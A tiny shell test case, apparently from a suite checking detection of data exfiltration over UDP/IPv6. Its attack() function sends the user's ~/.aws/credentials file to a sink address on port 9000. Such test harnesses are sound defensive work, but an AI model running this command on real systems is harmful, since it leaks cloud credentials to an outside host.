# SPDX-License-Identifier: Apache-2.0
TITLE="UDP over IPv6"
ROW="N10"
DEST="*$SINK6*"
attack() { "$PROVOKE/datagram" sendto "$HOME/.aws/credentials" "$SINK6" 9000; }
